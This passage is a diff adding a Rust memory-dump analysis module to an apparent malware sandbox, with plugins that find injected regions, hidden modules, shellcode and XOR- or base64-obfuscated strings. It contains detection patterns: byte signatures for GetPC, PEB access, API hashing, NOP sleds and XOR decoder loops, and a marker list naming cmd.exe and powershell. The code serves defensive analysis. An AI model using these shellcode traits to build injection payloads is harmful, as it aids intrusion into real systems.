@@ -0,0 +1,1423 @@
+//! Memory dump analysis
+//!
+//! Detonation drivers export process memory dumps from the guest; this module
+//! parses them and runs volatility-style plugins over the result. Windows
+//! minidumps (`MDMP`) are read for their process id, threads, module list,
+//! captured memory ranges and region protections. Any other dump is taken as
+//! a flat image of one process's memory starting at a base address, with its
+//! modules found by their PE headers.
+//!
+//! The built-in plugins are `pslist`, `dlllist` (listed modules, plus images
+//! whose headers sit in image memory the module list does not name),
+//! `malfind` (executable private memory, the footprint of injected code),
+//! `shellcode` (GetPC, PEB access, API hashing, NOP sleds and XOR decoder
+//! loops in memory no module backs) and `strings` (single-byte XOR, base64
+//! and stack-built strings). More plugins can be added through
+//! `MemoryPlugin`. With the `disassembly` feature injected regions and
+//! shellcode are disassembled with capstone; without it their listing shows
+//! the raw bytes.
+
+use chrono::{DateTime, TimeZone, Utc};
+use napi::bindgen_prelude::Buffer;
+use napi_derive::napi;
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeSet;
+use std::path::Path;
+use std::sync::Arc;
+
+use crate::email::decode_base64;
+use crate::error::{CoreError, CoreResult};
+use crate::static_pipeline::{is_printable, read_u16, read_u32, shannon_entropy, SUSPICIOUS_APIS};
+use crate::{InjectedCode, ObfuscatedString, SandboxCore, SandboxCoreNapi, ShellcodeDetection};
+
+const MINIDUMP_SIGNATURE: &[u8] = b"MDMP";
+const THREAD_LIST_STREAM: u32 = 3;
+const MODULE_LIST_STREAM: u32 = 4;
+const MEMORY_LIST_STREAM: u32 = 5;
+const SYSTEM_INFO_STREAM: u32 = 7;
+const MEMORY64_LIST_STREAM: u32 = 9;
+const MISC_INFO_STREAM: u32 = 15;
+const MEMORY_INFO_LIST_STREAM: u32 = 16;
+const MINIDUMP_MODULE_SIZE: usize = 108;
+const MISC1_PROCESS_ID: u32 = 0x1;
+const MISC1_PROCESS_TIMES: u32 = 0x2;
+const PROCESSOR_ARCHITECTURE_INTEL: u16 = 0;
+const PROCESSOR_ARCHITECTURE_AMD64: u16 = 9;
+
+const MEM_COMMIT: u32 = 0x1000;
+const MEM_PRIVATE: u32 = 0x2_0000;
+const MEM_MAPPED: u32 = 0x4_0000;
+const MEM_IMAGE: u32 = 0x100_0000;
+const PAGE_EXECUTE: u32 = 0x10;
+const PAGE_EXECUTE_READ: u32 = 0x20;
+const PAGE_EXECUTE_READWRITE: u32 = 0x40;
+const PAGE_EXECUTE_WRITECOPY: u32 = 0x80;
+
+const IMAGE_FILE_MACHINE_I386: u16 = 0x14c;
+const IMAGE_FILE_MACHINE_AMD64: u16 = 0x8664;
+const PAGE_SIZE: usize = 0x1000;
+
+/// Bytes of one region or range a plugin looks at
+const MAX_SCAN_BYTES: usize = 64 << 20;
+/// Findings one plugin reports per dump
+const MAX_FINDINGS: usize = 256;
+const MAX_DISASSEMBLY_INSTRUCTIONS: usize = 16;
+const MAX_REGION_STRINGS: usize = 20;
+const MIN_STRING_LENGTH: usize = 6;
+/// Shellcode indicators this close together describe the same payload
+const SHELLCODE_CLUSTER_SPAN: usize = 256;
+const MAX_SHELLCODE_BYTES: usize = 4096;
+/// Clusters below this combined confidence are left unreported
+const MIN_SHELLCODE_CONFIDENCE: f64 = 0.7;
+const MIN_NOP_SLED: usize = 32;
+const MIN_DECODED_LENGTH: usize = 8;
+const MIN_BASE64_LENGTH: usize = 20;
+
+/// Loader APIs shellcode and reflective loaders resolve first
+const LOADER_APIS: &[&str] = &["LoadLibraryA", "LoadLibraryW", "GetProcAddress", "GetModuleHandleA", "LdrLoadDll"];
+
+/// Plaintext that betrays a single-byte XOR key wherever it was encoded
+const XOR_MARKERS: &[&[u8]] = &[b"http://", b"https://", b"This program", b"cmd.exe", b"powershell", b"HKEY_", b"kernel32", b"\\AppData\\"];
+
+// Dump model
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum DumpFormat {
+    Minidump,
+    Raw,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Architecture {
+    X86,
+    X64,
+    Unknown,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum RegionKind {
+    Image,
+    Mapped,
+    Private,
+    Unknown,
+}
+
+/// Bytes the dump captured from one address range
+#[derive(Debug, Clone)]
+pub struct MemoryRange<'a> {
+    pub base_address: u64,
+    pub data: &'a [u8],
+}
+
+/// Allocation state and protection of a region, from the minidump memory info list
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct RegionInfo {
+    pub base_address: u64,
+    pub allocation_base: u64,
+    pub size: u64,
+    pub state: u32,
+    pub protection: u32,
+    pub allocation_protection: u32,
+    pub kind: RegionKind,
+}
+
+impl RegionInfo {
+    pub fn is_committed(&self) -> bool {
+        self.state == MEM_COMMIT
+    }
+
+    pub fn is_executable(&self) -> bool {
+        self.protection & (PAGE_EXECUTE | PAGE_EXECUTE_READ | PAGE_EXECUTE_READWRITE | PAGE_EXECUTE_WRITECOPY) != 0
+    }
+
+    pub fn is_writable_executable(&self) -> bool {
+        self.protection & (PAGE_EXECUTE_READWRITE | PAGE_EXECUTE_WRITECOPY) != 0
+    }
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ProcessEntry {
+    pub process_id: u32,
+    pub name: String,
+    pub image_path: Option<String>,
+    pub threads: u32,
+    pub create_time: Option<DateTime<Utc>>,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ModuleSource {
+    /// Named by the dump's module list
+    ModuleList,
+    /// Found by its PE header only
+    PeHeader,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ModuleEntry {
+    pub base_address: u64,
+    pub size: u64,
+    pub name: String,
+    pub path: Option<String>,
+    pub source: ModuleSource,
+}
+
+impl ModuleEntry {
+    fn contains(&self, address: u64) -> bool {
+        address >= self.base_address && address - self.base_address < self.size.max(1)
+    }
+}
+
+/// Where a raw dump came from; minidumps carry this themselves
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct DumpOptions {
+    #[serde(default)]
+    pub process_id: Option<u32>,
+    #[serde(default)]
+    pub process_name: Option<String>,
+    /// Address the first byte of a raw dump was read from
+    #[serde(default)]
+    pub base_address: u64,
+}
+
+impl DumpOptions {
+    /// Process a dump's file name names, e.g. `memory/notepad.exe_4312.dmp`
+    pub fn from_path(path: &str) -> Self {
+        let normalized = path.replace('\\', "/");
+        let stem = Path::new(&normalized).file_stem().and_then(|s| s.to_str()).unwrap_or_default();
+        let tokens: Vec<&str> = stem.split(['_', '-']).filter(|t| !t.is_empty()).collect();
+        let pid_index = tokens.iter().rposition(|t| t.chars().all(|c| c.is_ascii_digit()));
+        let process_id = pid_index.and_then(|i| tokens[i].parse().ok());
+        let name = match pid_index {
+            Some(i) => tokens[..i].join("_"),
+            None => stem.to_string(),
+        };
+        Self { process_id, process_name: Some(name).filter(|n| !n.is_empty()), base_address: 0 }
+    }
+}
+
+/// A parsed dump: what it says about its process and the memory it captured
+#[derive(Debug, Clone)]
+pub struct MemoryImage<'a> {
+    pub format: DumpFormat,
+    pub architecture: Architecture,
+    pub process_id: Option<u32>,
+    pub process_name: Option<String>,
+    pub thread_count: u32,
+    pub process_create_time: Option<DateTime<Utc>>,
+    pub captured_at: Option<DateTime<Utc>>,
+    pub modules: Vec<ModuleEntry>,
+    pub ranges: Vec<MemoryRange<'a>>,
+    /// Empty when the dump records no protections (raw dumps)
+    pub regions: Vec<RegionInfo>,
+}
+
+fn read_u64(data: &[u8], offset: usize) -> Option<u64> {
+    data.get(offset..offset + 8).map(|b| u64::from_le_bytes(b.try_into().expect("8 byte slice")))
+}
+
+fn unix_time(seconds: u32) -> Option<DateTime<Utc>> {
+    (seconds != 0).then(|| Utc.timestamp_opt(seconds as i64, 0).single()).flatten()
+}
+
+fn file_name(path: &str) -> String {
+    path.rsplit(['\\', '/']).next().unwrap_or(path).to_string()
+}
+
+impl<'a> MemoryImage<'a> {
+    /// Parse a minidump, or take anything else as a raw dump described by `options`
+    pub fn parse(data: &'a [u8], options: &DumpOptions) -> Result<Self, String> {
+        let mut image = if data.starts_with(MINIDUMP_SIGNATURE) {
+            Self::parse_minidump(data)?
+        } else {
+            Self::parse_raw(data, options.base_address)
+        };
+        if image.process_id.is_none() {
+            image.process_id = options.process_id;
+        }
+        if image.process_name.is_none() {
+            image.process_name = options.process_name.clone();
+        }
+        Ok(image)
+    }
+
+    fn empty(format: DumpFormat) -> Self {
+        Self {
+            format,
+            architecture: Architecture::Unknown,
+            process_id: None,
+            process_name: None,
+            thread_count: 0,
+            process_create_time: None,
+            captured_at: None,
+            modules: Vec::new(),
+            ranges: Vec::new(),
+            regions: Vec::new(),
+        }
+    }
+
+    fn parse_raw(data: &'a [u8], base_address: u64) -> Self {
+        let mut image = Self::empty(DumpFormat::Raw);
+        image.ranges.push(MemoryRange { base_address, data });
+        image.modules = image.header_modules(|_| true);
+        image.architecture = image
+            .modules
+            .first()
+            .and_then(|module| image.read(module.base_address, PAGE_SIZE))
+            .and_then(|header| pe_header(header).map(|pe| pe.architecture))
+            .unwrap_or(Architecture::Unknown);
+        image
+    }
+
+    fn parse_minidump(data: &'a [u8]) -> Result<Self, String> {
+        let truncated = |what: &str| format!("Truncated minidump: {}", what);
+        let stream_count = read_u32(data, 8).ok_or_else(|| truncated("header"))? as usize;
+        let directory = read_u32(data, 12).ok_or_else(|| truncated("header"))? as usize;
+        let mut image = Self::empty(DumpFormat::Minidump);
+        image.captured_at = read_u32(data, 20).and_then(unix_time);
+
+        for index in 0..stream_count {
+            let entry = directory + index * 12;
+            let (Some(kind), Some(size), Some(rva)) = (read_u32(data, entry), read_u32(data, entry + 4), read_u32(data, entry + 8)) else {
+                return Err(truncated("stream directory"));
+            };
+            let Some(stream) = data.get(rva as usize..rva as usize + size as usize) else {
+                return Err(truncated(&format!("stream {} at 0x{:x}", kind, rva)));
+            };
+            match kind {
+                THREAD_LIST_STREAM => image.thread_count = read_u32(stream, 0).unwrap_or(0),
+                MODULE_LIST_STREAM => image.modules = parse_module_list(data, stream),
+                MEMORY_LIST_STREAM => image.ranges.extend(parse_memory_list(data, stream)),
+                MEMORY64_LIST_STREAM => image.ranges.extend(parse_memory64_list(data, stream)),
+                MEMORY_INFO_LIST_STREAM => image.regions = parse_memory_info_list(stream),
+                SYSTEM_INFO_STREAM => {
+                    image.architecture = match read_u16(stream, 0) {
+                        Some(PROCESSOR_ARCHITECTURE_INTEL) => Architecture::X86,
+                        Some(PROCESSOR_ARCHITECTURE_AMD64) => Architecture::X64,
+                        _ => Architecture::Unknown,
+                    }
+                }
+                MISC_INFO_STREAM => {
+                    let flags = read_u32(stream, 4).unwrap_or(0);
+                    if flags & MISC1_PROCESS_ID != 0 {
+                        image.process_id = read_u32(stream, 8);
+                    }
+                    if flags & MISC1_PROCESS_TIMES != 0 {
+                        image.process_create_time = read_u32(stream, 12).and_then(unix_time);
+                    }
+                }
+                _ => {}
+            }
+        }
+        image.ranges.sort_by_key(|range| range.base_address);
+        image.regions.sort_by_key(|region| region.base_address);
+        // The process image is the first module a minidump lists
+        image.process_name = image.modules.first().map(|module| module.name.clone());
+        Ok(image)
+    }
+
+    /// Up to `len` captured bytes starting at `address`
+    pub fn read(&self, address: u64, len: usize) -> Option<&'a [u8]> {
+        let range = self
+            .ranges
+            .iter()
+            .find(|range| address >= range.base_address && address - range.base_address < range.data.len() as u64)?;
+        let start = (address - range.base_address) as usize;
+        Some(&range.data[start..range.data.len().min(start.saturating_add(len))])
+    }
+
+    pub fn region_at(&self, address: u64) -> Option<&RegionInfo> {
+        self.regions
+            .iter()
+            .find(|region| address >= region.base_address && address - region.base_address < region.size)
+    }
+
+    pub fn module_at(&self, address: u64) -> Option<&ModuleEntry> {
+        self.modules.iter().find(|module| module.contains(address))
+    }
+
+    /// What an address belongs to, for finding context
+    pub fn describe(&self, address: u64) -> String {
+        match (self.module_at(address), self.region_at(address)) {
+            (Some(module), _) => format!("0x{:x} in {}", address, module.name),
+            (None, Some(region)) => format!("0x{:x} in {:?} memory (protection 0x{:x})", address, region.kind, region.protection).to_lowercase(),
+            (None, None) => format!("0x{:x} outside any module", address),
+        }
+    }
+
+    /// Captured memory no module backs: committed non-image regions when the
+    /// dump has protections, otherwise the ranges with module images cut out
+    pub fn unbacked_memory(&self, executable_only: bool) -> Vec<(u64, &'a [u8])> {
+        if !self.regions.is_empty() {
+            return self
+                .regions
+                .iter()
+                .filter(|region| region.is_committed() && region.kind != RegionKind::Image)
+                .filter(|region| !executable_only || region.is_executable())
+                .filter_map(|region| {
+                    let bytes = self.read(region.base_address, (region.size as usize).min(MAX_SCAN_BYTES))?;
+                    Some((region.base_address, bytes))
+                })
+                .collect();
+        }
+        let mut spans = Vec::new();
+        for range in &self.ranges {
+            let end = range.base_address + range.data.len() as u64;
+            let mut cursor = range.base_address;
+            let mut modules: Vec<&ModuleEntry> = self.modules.iter().filter(|m| m.base_address < end && m.base_address + m.size > cursor).collect();
+            modules.sort_by_key(|m| m.base_address);
+            for module in modules {
+                if module.base_address > cursor {
+                    spans.push((cursor, module.base_address));
+                }
+                cursor = cursor.max(module.base_address + module.size.max(1));
+            }
+            if cursor < end {
+                spans.push((cursor, end));
+            }
+        }
+        spans
+            .into_iter()
+            .filter_map(|(start, end)| Some((start, self.read(start, ((end - start) as usize).min(MAX_SCAN_BYTES))?)))
+            .collect()
+    }
+
+    /// PE images whose headers start a page of captured memory `keep` accepts
+    fn header_modules(&self, keep: impl Fn(u64) -> bool) -> Vec<ModuleEntry> {
+        let mut modules = Vec::new();
+        for range in &self.ranges {
+            let skip = (PAGE_SIZE as u64 - range.base_address % PAGE_SIZE as u64) as usize % PAGE_SIZE;
+            for offset in (skip..range.data.len()).step_by(PAGE_SIZE) {
+                let address = range.base_address + offset as u64;
+                let Some(pe) = pe_header(&range.data[offset..]) else { continue };
+                if !keep(address) {
+                    continue;
+                }
+                let name = pe
+                    .export_name_rva
+                    .and_then(|rva| range.data.get(offset + rva as usize..))
+                    .and_then(c_string)
+                    .unwrap_or_else(|| format!("module_0x{:x}", address));
+                modules.push(ModuleEntry { base_address: address, size: pe.size_of_image as u64, name, path: None, source: ModuleSource::PeHeader });
+                if modules.len() >= MAX_FINDINGS {
+                    return modules;
+                }
+            }
+        }
+        modules
+    }
+
+    /// Executable images in image memory that the module list does not name
+    pub fn unlisted_modules(&self) -> Vec<ModuleEntry> {
+        if self.format == DumpFormat::Raw {
+            return Vec::new();
+        }
+        self.header_modules(|address| {
+            self.region_at(address).is_some_and(|region| region.kind == RegionKind::Image)
+                && !self.modules.iter().any(|module| module.base_address == address)
+        })
+    }
+}
+
+fn minidump_string(data: &[u8], rva: u32) -> Option<String> {
+    let rva = rva as usize;
+    let length = read_u32(data, rva)? as usize;
+    let units: Vec<u16> = data.get(rva + 4..rva + 4 + length)?.chunks_exact(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect();
+    Some(String::from_utf16_lossy(&units))
+}
+
+fn parse_module_list(data: &[u8], stream: &[u8]) -> Vec<ModuleEntry> {
+    let count = read_u32(stream, 0).unwrap_or(0) as usize;
+    (0..count)
+        .map_while(|index| {
+            let entry = 4 + index * MINIDUMP_MODULE_SIZE;
+            let base_address = read_u64(stream, entry)?;
+            let size = read_u32(stream, entry + 8)? as u64;
+            let path = read_u32(stream, entry + 20).and_then(|rva| minidump_string(data, rva));
+            let name = path.as_deref().map(file_name).unwrap_or_else(|| format!("module_0x{:x}", base_address));
+            Some(ModuleEntry { base_address, size, name, path, source: ModuleSource::ModuleList })
+        })
+        .collect()
+}
+
+fn parse_memory_list<'a>(data: &'a [u8], stream: &[u8]) -> Vec<MemoryRange<'a>> {
+    let count = read_u32(stream, 0).unwrap_or(0) as usize;
+    (0..count)
+        .map_while(|index| {
+            let entry = 4 + index * 16;
+            let base_address = read_u64(stream, entry)?;
+            let size = read_u32(stream, entry + 8)? as usize;
+            let rva = read_u32(stream, entry + 12)? as usize;
+            Some(MemoryRange { base_address, data: data.get(rva..rva.checked_add(size)?)? })
+        })
+        .collect()
+}
+
+fn parse_memory64_list<'a>(data: &'a [u8], stream: &[u8]) -> Vec<MemoryRange<'a>> {
+    let count = read_u64(stream, 0).unwrap_or(0) as usize;
+    let Some(mut rva) = read_u64(stream, 8).map(|rva| rva as usize) else {
+        return Vec::new();
+    };
+    let mut ranges = Vec::new();
+    for index in 0..count {
+        let entry = 16 + index * 16;
+        let (Some(base_address), Some(size)) = (read_u64(stream, entry), read_u64(stream, entry + 8)) else { break };
+        let Some(bytes) = rva.checked_add(size as usize).and_then(|end| data.get(rva..end)) else { break };
+        ranges.push(MemoryRange { base_address, data: bytes });
+        rva += size as usize;
+    }
+    ranges
+}
+
+fn parse_memory_info_list(stream: &[u8]) -> Vec<RegionInfo> {
+    let header_size = read_u32(stream, 0).unwrap_or(0) as usize;
+    let entry_size = read_u32(stream, 4).unwrap_or(0) as usize;
+    let count = read_u64(stream, 8).unwrap_or(0) as usize;
+    if entry_size < 44 {
+        return Vec::new();
+    }
+    (0..count)
+        .map_while(|index| {
+            let entry = header_size + index * entry_size;
+            Some(RegionInfo {
+                base_address: read_u64(stream, entry)?,
+                allocation_base: read_u64(stream, entry + 8)?,
+                allocation_protection: read_u32(stream, entry + 16)?,
+                size: read_u64(stream, entry + 24)?,
+                state: read_u32(stream, entry + 32)?,
+                protection: read_u32(stream, entry + 36)?,
+                kind: match read_u32(stream, entry + 40)? {
+                    MEM_IMAGE => RegionKind::Image,
+                    MEM_MAPPED => RegionKind::Mapped,
+                    MEM_PRIVATE => RegionKind::Private,
+                    _ => RegionKind::Unknown,
+                },
+            })
+        })
+        .collect()
+}
+
+struct PeHeader {
+    architecture: Architecture,
+    size_of_image: u32,
+    entry_point: u32,
+    export_name_rva: Option<u32>,
+}
+
+/// Headers of a PE image mapped at the start of `data`
+fn pe_header(data: &[u8]) -> Option<PeHeader> {
+    if !data.starts_with(b"MZ") {
+        return None;
+    }
+    let pe = read_u32(data, 0x3c)? as usize;
+    if pe >= PAGE_SIZE || data.get(pe..pe + 4)? != b"PE\0\0" {
+        return None;
+    }
+    let architecture = match read_u16(data, pe + 4)? {
+        IMAGE_FILE_MACHINE_I386 => Architecture::X86,
+        IMAGE_FILE_MACHINE_AMD64 => Architecture::X64,
+        _ => Architecture::Unknown,
+    };
+    let optional = pe + 24;
+    let export_directory = match read_u16(data, optional)? {
+        0x20b => optional + 112,
+        _ => optional + 96,
+    };
+    let export_name_rva = read_u32(data, export_directory)
+        .filter(|&rva| rva != 0)
+        .and_then(|rva| read_u32(data, rva as usize + 12))
+        .filter(|&rva| rva != 0);
+    Some(PeHeader {
+        architecture,
+        size_of_image: read_u32(data, optional + 56)?,
+        entry_point: read_u32(data, optional + 16)?,
+        export_name_rva,
+    })
+}
+
+fn c_string(data: &[u8]) -> Option<String> {
+    let end = data.iter().take(256).position(|&b| b == 0)?;
+    let name = &data[..end];
+    (!name.is_empty() && name.iter().all(|&b| is_printable(b))).then(|| String::from_utf8_lossy(name).into_owned())
+}
+
+fn hex(data: &[u8]) -> String {
+    data.iter().map(|b| format!("{:02x}", b)).collect()
+}
+
+fn ascii_strings(data: &[u8], limit: usize) -> Vec<String> {
+    data.split(|&b| !is_printable(b))
+        .filter(|run| run.len() >= MIN_STRING_LENGTH)
+        .take(limit)
+        .map(|run| String::from_utf8_lossy(run).into_owned())
+        .collect()
+}
+
+/// APIs a region names in plain text
+fn api_references(strings: &[String]) -> Vec<String> {
+    let apis = SUSPICIOUS_APIS.iter().map(|(api, _)| *api).chain(LOADER_APIS.iter().copied());
+    let found: BTreeSet<&str> = apis.filter(|api| strings.iter().any(|s| s.contains(api))).collect();
+    found.into_iter().map(str::to_string).collect()
+}
+
+/// Instruction listing of `code`, or its bytes when it cannot be disassembled
+pub fn disassemble(code: &[u8], address: u64, architecture: Architecture) -> Vec<String> {
+    let code = &code[..code.len().min(MAX_DISASSEMBLY_INSTRUCTIONS * 15)];
+    #[cfg(feature = "disassembly")]
+    {
+        use capstone::prelude::*;
+        let mode = match architecture {
+            Architecture::X86 => Some(arch::x86::ArchMode::Mode32),
+            Architecture::X64 => Some(arch::x86::ArchMode::Mode64),
+            Architecture::Unknown => None,
+        };
+        let listing = mode
+            .and_then(|mode| Capstone::new().x86().mode(mode).build().ok())
+            .and_then(|cs| {
+                let instructions = cs.disasm_count(code, address, MAX_DISASSEMBLY_INSTRUCTIONS).ok()?;
+                let lines: Vec<String> = instructions
+                    .iter()
+                    .map(|insn| format!("0x{:x}: {} {}", insn.address(), insn.mnemonic().unwrap_or("?"), insn.op_str().unwrap_or_default()).trim_end().to_string())
+                    .collect();
+                (!lines.is_empty()).then_some(lines)
+            });
+        if let Some(lines) = listing {
+            return lines;
+        }
+    }
+    #[cfg(not(feature = "disassembly"))]
+    let _ = architecture;
+    code.chunks(16)
+        .take(4)
+        .enumerate()
+        .map(|(i, chunk)| {
+            let bytes: Vec<String> = chunk.iter().map(|b| format!("0x{:02x}", b)).collect();
+            format!("0x{:x}: db {}", address + (i * 16) as u64, bytes.join(", "))
+        })
+        .collect()
+}
+
+// Plugins
+
+/// Results of every plugin run over one dump
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct MemoryDumpReport {
+    pub format: DumpFormat,
+    pub architecture: Architecture,
+    pub process_id: Option<u32>,
+    pub dump_size: u64,
+    pub captured_at: Option<DateTime<Utc>>,
+    pub entropy: f64,
+    pub processes: Vec<ProcessEntry>,
+    pub modules: Vec<ModuleEntry>,
+    pub injected_code: Vec<InjectedCode>,
+    pub shellcode_detection: Vec<ShellcodeDetection>,
+    pub obfuscated_strings: Vec<ObfuscatedString>,
+    /// `<plugin>: <summary>` per plugin run
+    pub plugin_results: Vec<String>,
+    pub errors: Vec<String>,
+}
+
+impl MemoryDumpReport {
+    fn new(image: &MemoryImage<'_>, data: &[u8]) -> Self {
+        Self {
+            format: image.format,
+            architecture: image.architecture,
+            process_id: image.process_id,
+            dump_size: data.len() as u64,
+            captured_at: image.captured_at,
+            entropy: shannon_entropy(data),
+            processes: Vec::new(),
+            modules: Vec::new(),
+            injected_code: Vec::new(),
+            shellcode_detection: Vec::new(),
+            obfuscated_strings: Vec::new(),
+            plugin_results: Vec::new(),
+            errors: Vec::new(),
+        }
+    }
+
+    /// Injected regions plus shellcode found outside them
+    pub fn suspicious_regions(&self) -> u32 {
+        let injected: Vec<(u64, u64)> = self
+            .injected_code
+            .iter()
+            .filter_map(|code| Some((parse_address(&code.address)?, code.size)))
+            .collect();
+        let loose = self
+            .shellcode_detection
+            .iter()
+            .filter_map(|shellcode| parse_address(&shellcode.address))
+            .filter(|address| !injected.iter().any(|(base, size)| *address >= *base && address - base < *size))
+            .count();
+        (self.injected_code.len() + loose) as u32
+    }
+
+    pub fn to_memory_dump(&self, fallback_timestamp: DateTime<Utc>) -> crate::MemoryDump {
+        crate::MemoryDump {
+            process_id: self.process_id.unwrap_or(0),
+            dump_size: self.dump_size,
+            timestamp: self.captured_at.unwrap_or(fallback_timestamp),
+            analysis_results: self.plugin_results.iter().chain(&self.errors).cloned().collect(),
+            entropy: self.entropy,
+            suspicious_regions: self.suspicious_regions(),
+        }
+    }
+}
+
+fn parse_address(address: &str) -> Option<u64> {
+    u64::from_str_radix(address.trim_start_matches("0x"), 16).ok()
+}
+
+/// A volatility-style plugin run over every parsed dump
+pub trait MemoryPlugin: Send + Sync {
+    fn name(&self) -> &'static str;
+
+    /// Add findings to `report` and return a one-line summary
+    fn run(&self, image: &MemoryImage<'_>, report: &mut MemoryDumpReport) -> Result<String, String>;
+}
+
+/// The dump's process
+pub struct ProcessListPlugin;
+
+impl MemoryPlugin for ProcessListPlugin {
+    fn name(&self) -> &'static str {
+        "pslist"
+    }
+
+    fn run(&self, image: &MemoryImage<'_>, report: &mut MemoryDumpReport) -> Result<String, String> {
+        let Some(process_id) = image.process_id else {
+            return Ok("process id not recorded in dump".to_string());
+        };
+        let image_path = image.modules.iter().find(|m| m.source == ModuleSource::ModuleList).and_then(|m| m.path.clone());
+        let name = image.process_name.clone().unwrap_or_else(|| format!("pid_{}", process_id));
+        report.processes.push(ProcessEntry { process_id, name: name.clone(), image_path, threads: image.thread_count, create_time: image.process_create_time });
+        Ok(format!("{} (pid {}, {} threads)", name, process_id, image.thread_count))
+    }
+}
+
+/// Listed modules plus images the module list hides
+pub struct DllListPlugin;
+
+impl MemoryPlugin for DllListPlugin {
+    fn name(&self) -> &'static str {
+        "dlllist"
+    }
+
+    fn run(&self, image: &MemoryImage<'_>, report: &mut MemoryDumpReport) -> Result<String, String> {
+        let unlisted = image.unlisted_modules();
+        report.modules.extend(image.modules.iter().cloned());
+        report.modules.extend(unlisted.iter().cloned());
+        let mut summary = format!("{} modules", image.modules.len());
+        if !unlisted.is_empty() {
+            let names: Vec<&str> = unlisted.iter().map(|m| m.name.as_str()).collect();
+            summary.push_str(&format!(", {} not in the module list ({})", unlisted.len(), names.join(", ")));
+        }
+        Ok(summary)
+    }
+}
+
+/// Executable private memory: injected images and code
+pub struct InjectedRegionPlugin;
+
+impl MemoryPlugin for InjectedRegionPlugin {
+    fn name(&self) -> &'static str {
+        "malfind"
+    }
+
+    fn run(&self, image: &MemoryImage<'_>, report: &mut MemoryDumpReport) -> Result<String, String> {
+        if image.regions.is_empty() {
+            return Ok("no region protections in dump".to_string());
+        }
+        let candidates = image
+            .regions
+            .iter()
+            .filter(|region| region.is_committed() && region.is_executable() && region.kind == RegionKind::Private);
+        for region in candidates {
+            if report.injected_code.len() >= MAX_FINDINGS {
+                break;
+            }
+            let Some(bytes) = image.read(region.base_address, (region.size as usize).min(MAX_SCAN_BYTES)) else { continue };
+            if bytes.iter().all(|&b| b == 0) {
+                continue;
+            }
+            let header = pe_header(bytes);
+            let (code_type, confidence, code_offset) = match &header {
+                Some(pe) => ("pe_image", 0.9, pe.entry_point as usize),
+                // Reflective loaders wipe the DOS header but leave the NT headers
+                None if bytes[..bytes.len().min(PAGE_SIZE)].windows(4).any(|w| w == b"PE\0\0") => ("pe_image_erased_header", 0.85, 0),
+                None if region.is_writable_executable() => ("shellcode", 0.7, 0),
+                None => ("private_code", 0.5, 0),
+            };
+            let confidence = if region.is_writable_executable() { f64::min(confidence + 0.05, 0.99) } else { confidence };
+            let architecture = header.as_ref().map_or(image.architecture, |pe| pe.architecture);
+            let code = bytes.get(code_offset..).filter(|code| !code.is_empty()).unwrap_or(bytes);
+            let code_address = region.base_address + (bytes.len() - code.len()) as u64;
+            let strings = ascii_strings(bytes, usize::MAX);
+            report.injected_code.push(InjectedCode {
+                address: format!("0x{:x}", region.base_address),
+                size: region.size,
+                code_type: code_type.to_string(),
+                disassembly: disassemble(code, code_address, architecture),
+                api_calls: api_references(&strings),
+                strings: strings.into_iter().take(MAX_REGION_STRINGS).collect(),
+                confidence,
+            });
+        }
+        Ok(format!("{} injected regions", report.injected_code.len()))
+    }
+}
+
+/// One shellcode trait found at an offset
+struct Indicator {
+    offset: usize,
+    kind: &'static str,
+    confidence: f64,
+    /// XOR key of a decoder loop
+    key: Option<u8>,
+    /// A 64-bit-only encoding was matched
+    x64: bool,
+}
+
+fn indicator_at(code: &[u8], offset: usize) -> Option<Indicator> {
+    let at = |i: usize| code.get(offset + i).copied();
+    let found = |kind, confidence| Some(Indicator { offset, kind, confidence, key: None, x64: false });
+    match (at(0)?, at(1), at(2), at(3), at(4)) {
+        // call $+5; pop r32
+        (0xe8, Some(0), Some(0), Some(0), Some(0)) if matches!(at(5), Some(0x58..=0x5f)) => found("getpc", 0.7),
+        // call $+4 into the call's last byte: ff c0..cf (inc/dec r32)
+        (0xe8, Some(0xff), Some(0xff), Some(0xff), Some(0xff)) if matches!(at(5), Some(0xc0..=0xcf)) => found("getpc", 0.7),
+        // fnstenv [esp-0xc]
+        (0xd9, Some(0x74), Some(0x24), Some(0xf4), _) => found("getpc", 0.7),
+        // mov eax, fs:[0x30]
+        (0x64, Some(0xa1), Some(0x30), Some(0), Some(0)) if at(5) == Some(0) => found("peb_access", 0.75),
+        // mov r32, fs:[0x30]
+        (0x64, Some(0x8b), Some(modrm), Some(0x30), Some(0)) if modrm & 0xc7 == 0x05 && at(5) == Some(0) && at(6) == Some(0) => found("peb_access", 0.75),
+        // mov r64, gs:[0x60]
+        (0x65, Some(0x48 | 0x4c), Some(0x8b), Some(modrm), Some(0x25))
+            if modrm & 0xc7 == 0x04 && at(5) == Some(0x60) && at(6) == Some(0) && at(7) == Some(0) && at(8) == Some(0) =>
+        {
+            Some(Indicator { offset, kind: "peb_access", confidence: 0.75, key: None, x64: true })
+        }
+        // ror r32, 0xd: the classic module/export name hash
+        (0xc1, Some(0xc8..=0xcf), Some(0x0d), _, _) => found("api_hashing", 0.6),
+        (0x90, _, _, _, _) if offset == 0 || code[offset - 1] != 0x90 => {
+            let sled = code[offset..].iter().take_while(|&&b| b == 0x90).count();
+            let tail = code.get(offset + sled).copied().unwrap_or(0);
+            (sled >= MIN_NOP_SLED && tail != 0).then_some(Indicator { offset, kind: "nop_sled", confidence: 0.5, key: None, x64: false })
+        }
+        // xor byte [reg(+disp8)], imm8 closed by loop or a backward jnz
+        (0x80, Some(modrm), _, _, _) if modrm & 0x38 == 0x30 && modrm & 0xc0 != 0xc0 && modrm & 0xc7 != 0x05 => {
+            let sib = usize::from(modrm & 0x07 == 0x04);
+            let length = 3 + sib + usize::from(modrm & 0xc0 == 0x40) + 3 * usize::from(modrm & 0xc0 == 0x80);
